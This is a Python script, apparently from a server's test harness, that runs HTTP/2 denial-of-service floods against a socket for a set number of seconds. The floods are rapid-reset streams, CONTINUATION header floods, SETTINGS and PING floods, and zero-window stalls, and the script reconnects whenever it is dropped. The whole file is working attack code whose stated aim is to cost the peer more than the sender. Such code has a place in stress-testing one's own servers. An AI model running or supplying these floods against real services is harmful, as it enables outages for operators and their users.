"""`flood.py SOCKET KIND SECONDS`: HTTP/2 that is legal, or nearly, and costs the other side more than this one. Connects
again as often as it is hung up on; prints how much was sent."""
import os, sys, time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import h2

path, kind, end = sys.argv[1], sys.argv[2], time.monotonic() + float(sys.argv[3])
OPEN = h2.PREFACE + h2.frame(h2.SETTINGS, 0, 0)
BLOCK = h2.headers(h2.DAEMON + "List")
sent = connections = 0


def pieces():
    """One connection's flood, piece by piece."""
    stream = 1
    if kind == "continuation":
        yield h2.frame(h2.HEADERS, h2.END_STREAM, 1, BLOCK)
    if kind == "zero-window":
        # SETTINGS_INITIAL_WINDOW_SIZE = 0: nothing can be answered.
        yield h2.frame(h2.SETTINGS, 0, 0, b"\0\4\0\0\0\0")
    while True:
        if kind == "rapid-reset":
            out = b""
            for _ in range(50):
                out += h2.frame(h2.HEADERS, h2.END_HEADERS, stream, BLOCK) + h2.frame(h2.RST, 0, stream, b"\0\0\0\10")
                stream += 2
            yield out
        elif kind == "continuation":
            yield h2.frame(h2.CONTINUATION, 0, 1, b"".join(h2.header(f"x-{n}", "v" * 1000) for n in range(15)))
        elif kind == "settings":
            yield h2.frame(h2.SETTINGS, 0, 0, b"\0\3\0\0\0\144") * 500
        elif kind == "ping":
            yield h2.frame(h2.PING, 0, 0, b"12345678") * 500
        elif kind == "zero-window":
            yield h2.frame(h2.HEADERS, h2.END_HEADERS, stream, BLOCK) + h2.frame(h2.DATA, h2.END_STREAM, stream, b"\0\0\0\0\0")
            stream += 2
            time.sleep(0.001)


while time.monotonic() < end:
    try:
        peer = h2.connect(path)
        peer.settimeout(1)
        connections += 1
        peer.sendall(OPEN)
        for piece in pieces():
            peer.sendall(piece)
            sent += len(piece)
            if time.monotonic() > end:
                break
    except OSError:
        time.sleep(0.005)
print(f"{kind}: {sent >> 10} KiB over {connections} connections")
